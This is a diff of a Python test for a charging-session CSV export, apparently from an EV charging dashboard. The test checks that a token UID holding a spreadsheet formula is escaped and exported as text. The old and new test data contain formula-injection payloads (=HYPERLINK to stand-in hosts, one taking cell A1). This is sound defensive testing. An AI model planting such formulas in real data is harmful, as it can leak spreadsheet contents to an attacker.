@@ -116,7 +116,7 @@ def sessions(station_factory):
         number=12,
         start=at("2026-03-10", 8),
         kwh=Decimal("5"),
-        uid='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        uid='=HYPERLINK("http://ev.il","x")',  # 30 characters: an idTag holds 36
         emsp=("DE", "OTH"),
     )
     running = make_session(station=station, number=13, start=at("2026-04-02", 9), kwh=Decimal("1.5"))
@@ -172,7 +172,7 @@ def test_a_token_uid_that_is_a_formula_stays_text_in_the_session_export(client_a
     rows, _ = exported(
         client_as("viewer"), "dashboard:session-export", started_from="2026-03-10", started_to="2026-03-10"
     )
-    assert [row["id_tag"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")']
+    assert [row["id_tag"] for row in rows] == ['\'=HYPERLINK("http://ev.il","x")']
     assert rows[0]["emsp_party_id"] == "OTH"
 
 
